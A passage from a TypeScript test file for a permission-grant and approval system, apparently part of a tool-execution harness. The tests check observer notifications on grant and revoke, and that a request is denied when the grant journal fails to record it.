          heard.push(`granted ${String(grant.id)} covered=${String(grants.covers(request()))}`);
        },
        revoked: (grant) => {
          heard.push(`revoked ${String(grant.id)}`);
        },
      },
    });
    await grants.grant(request());
    await grants.revoke(1);
    expect(heard).toEqual(["granted 1 covered=false", "revoked 1"]);
  });

  it("a grant the journal cannot record is not made, and the call is denied", async () => {
    const grants = new RunGrants({
      workspace: "/ws",
      observer: { granted: () => Promise.reject(new Error("disk full")) },
    });
    const executionEnvironment = new FixedEnvironment(() => ({
      kind: "isolated",
      network: "disabled",
      label: SANDBOX_OFF,
    }));
    const prompt = new ScriptedPrompt("a");
    const policy = new PermissionPolicy({
      approval: new DailyApprover({ prompt, grants, executionEnvironment }),
    });
    const decision = await policy.decide(request());
    expect(prompt.asked).toHaveLength(1);
    expect([decision.behavior, decision.reason]).toEqual([
      "deny",
      "Approval provider failed; request denied",
    ]);
    expect(grants.list()).toEqual([]);
  });
});
